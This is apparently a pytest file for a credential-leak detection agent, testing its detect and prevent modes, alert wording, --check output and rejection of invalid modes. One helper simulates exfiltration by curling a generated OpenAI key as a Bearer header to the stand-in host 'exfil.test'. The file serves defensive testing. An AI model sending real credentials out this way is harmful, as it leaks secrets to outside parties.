"""Prevent mode (issue 16): the mode is chosen and reported, alerts say what was done, and
--check tries the mechanisms prevent mode needs. The hold and kill are in test_prevent_kill.py.
"""

import subprocess

from kharness.servers import sha256

ALERT_TIMEOUT = 5.0


def _openai_alerts(agent):
    def predicate(alert):
        return (alert.get("secret") or {}).get("provider") == "openai"
    return agent.wait_for_alerts(predicate, timeout=ALERT_TIMEOUT)


def _send_key(clients, https_server, curl, registry, scratch):
    key = registry.new("openai")
    headers = scratch / "headers"
    headers.write_text(f"Authorization: Bearer {key}\n")
    clients.run(curl.https(https_server, "exfil.test", "/v1/chat/completions") +
                ["-H", f"@{headers}", "--data-binary", '{"model":"x"}'])
    [req] = https_server.wait_for_requests(1)
    assert req.header_digests.get("authorization") == sha256(f"Bearer {key}")


def test_detect_mode_alert_says_observed(agent, clients, https_server, curl, registry, scratch):
    _send_key(clients, https_server, curl, registry, scratch)
    alerts = _openai_alerts(agent)
    assert alerts, f"no openai alert within {ALERT_TIMEOUT}s\n{agent.diagnostics()}"
    assert alerts[0]["action"] == "observed"


def test_prevent_mode_starts_its_guardian_and_says_what_it_holds(start_agent):
    agent = start_agent(extra_args=["--mode", "prevent"])
    assert agent.wait_for_log("prevent guardian pid"), agent.diagnostics()
    assert "mode prevent: TLS writes carrying a credential" in agent.log_text()


def test_check_reports_prevent_mechanisms(agent_binary, cgroup):
    out = subprocess.run([str(agent_binary), "--mode", "prevent", "--cgroup", str(cgroup),
                          "--check"], capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stdout + out.stderr
    def value(feature):
        # "feature:<padding>value"; feature names may hold a colon of their own.
        [line] = [l for l in out.stdout.splitlines() if l.startswith(feature + ":")]
        return line[len(feature) + 1:].strip()

    assert value("mode") == "prevent"
    # This kernel (issue 16): uprobes with bpf_send_signal and cgroup sock_addr hooks work.
    for feature in ("prevent: uprobe hold (bpf_send_signal_thread)", "prevent: cgroup connect4",
                    "prevent: cgroup connect6", "prevent mode (--mode prevent)"):
        assert value(feature).startswith("yes"), out.stdout


def test_bad_mode_is_refused(agent_binary, scratch):
    out = subprocess.run([str(agent_binary), "--mode", "block", "--check"],
                         capture_output=True, text=True, timeout=30)
    assert out.returncode == 2
    assert "--mode must be detect or prevent, not 'block'" in out.stderr
    yaml = scratch / "agent.yaml"
    yaml.write_text("log_level: info\nmode: stop\n")
    out = subprocess.run([str(agent_binary), "--config", str(yaml), "--check"],
                         capture_output=True, text=True, timeout=30)
    assert out.returncode == 2
    assert f"{yaml}:2: mode must be detect or prevent, not 'stop'" in out.stderr
